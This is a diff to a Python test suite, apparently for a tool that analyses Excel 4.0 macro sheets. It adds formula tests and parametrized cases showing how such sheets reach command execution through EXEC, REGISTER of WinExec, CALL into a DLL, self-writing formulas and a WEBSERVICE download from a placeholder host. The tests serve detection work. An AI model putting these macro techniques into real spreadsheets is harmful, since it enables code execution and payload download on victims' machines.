@@ -129,6 +129,15 @@ def value(formula: str, *others: Sheet, cells: Cells | None = None) -> Any:
         ("LEFT(GET.WORKSPACE(1),7)", "Windows"),
         ("Data!A1", "hidden"),
         ("Data!B1", 12.0),
+        ("RANK(2,C1:C3)&RANK(2,{1,2,4,8},1)&MODE(1,2,2)&STDEVP(2,4)&VARP(2,4)&DEVSQ(1,3)", "222112"),
+        ("GEOMEAN(2,8)&HARMEAN(2,2)&AVEDEV(1,3)&PERCENTILE(C1:C3,0.5)&QUARTILE(C1:C3,2)", "42122"),
+        ('COUNTIFS(C1:C3,">1",D1:D3,"t*")&SUMIFS(C1:C3,D1:D3,"t*")&AVERAGEIF(C1:C3,">1")&MAXIFS(C1:C3,C1:C3,"<3")', "252.52"),
+        ("AVERAGEA(2,4)&MAXA(C1:D1)&MINA(TRUE,7)&SUMX2PY2({1,2},{3,4})&SUMXMY2({1},{4})&SUMX2MY2({3},{2})", "3113095"),
+        ("ROUND(PMT(0.1,2,100),4)&ROUND(FV(0.1,2,-10),2)&PV(0,3,-5)&SLN(10,4,3)&ROUND(NPV(0.5,3,9),4)", "-57.619211526"),
+        ('HEX2BIN("B",6)&HEX2OCT("1F")&BIN2HEX(11111011)&OCT2BIN(7)&OCT2HEX(100)&BIN2OCT(1001)', "00101137FB1114011"),
+        ('ARABIC("MCMXC")&LCM(4,6)&PERMUT(4,2)&COMBINA(3,2)&FACTDOUBLE(5)&DELTA(1,1)&GESTEP(1,2)', "1990121261510"),
+        ('ASC("ｃａ！")&JIS("ab")&ENCODEURL("a b/c")&SHEETS()&SHEET("Data")', "ca!ａｂa%20b%2Fc22"),
+        ('XLOOKUP(2,C1:C3,D1:D3)&XLOOKUP(9,C1:C3,D1:D3,"none")&FORMULATEXT(F1)&ISFORMULA(C1)&INDEX(SEQUENCE(2,2,5,5),2,1)', "twonone=1+1FALSE15"),
     ],
 )  # fmt: skip
 def test_formulas(formula: str, expected: Any) -> None:
@@ -271,6 +280,35 @@ def test_every_way_of_chance() -> None:
 )  # fmt: skip
 def test_ways_to_a_command(cells: Cells) -> None:
     assert facts(run(book(cells)), "effect.run") == ["calc"]
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        {"A1": "=B1()", "A2": "=HALT()", "B1": '=EXEC("calc")', "B2": "=RETURN()"},
+        {"A1": '=$B$1("ca","lc")', "A2": "=HALT()", "B1": '=ARGUMENT("x")', "B2": '=ARGUMENT("y")', "B3": "=EXEC(x&y)", "B4": "=RETURN()"},
+        {"A1": '=REGISTER("kernel32","WinExec","JCJ")', "A2": '=A1("calc",0)', "A3": "=HALT()"},
+        {"A1": "=ERROR(TRUE,B1)", "A2": '=GOTO("nowhere")', "A3": "=HALT()", "B1": '=EXEC("calc")', "B2": "=HALT()"},
+        {"A1": "=SELECT(C1:C9)", "A2": '=FORMULA.FIND("key",2,1)', "A3": "=EXEC(OFFSET(ACTIVE.CELL(),0,1))", "A4": "=HALT()", "C4": "key", "D4": "calc"},
+        {"A1": '=NOTE("cXXc",C1)', "A2": '=NOTE("al",C1,2,2)', "A3": "=EXEC(GET.NOTE(C1))", "A4": "=HALT()"},
+        {"A1": '=FORMULA("=EXEC(""ca""&C1)",A2)', "A3": "=HALT()", "C1": "lc"},
+        {"A1": '=MAIL.LOGON("x")', "A2": "=FORMAT.MAIN?(1)", "A3": '=EXEC("calc")', "A4": "=HALT()"},
+    ],
+)  # fmt: skip
+def test_more_ways_to_a_command(cells: Cells) -> None:
+    items = run(book(cells))
+    assert (facts(items, "effect.run"), facts(items, "eval.unmodelled")) == (["calc"], [])
+
+
+def test_functions_of_a_library_of_its_own() -> None:
+    cells = {
+        "A1": '=CALL("C:\\Users\\Public\\x.dll","Start","J")',
+        "A2": '=FORMULA(WEBSERVICE("http://files.example.test/a"),B1)',
+        "A3": "=HALT()",
+    }
+    items = run(book(cells))
+    assert facts(items, "effect.load") == [r"C:\Users\Public\x.dll"]
+    assert facts(items, "effect.download") == ["http://files.example.test/a"]
 
 
 def test_sheets_are_calculated_again() -> None:
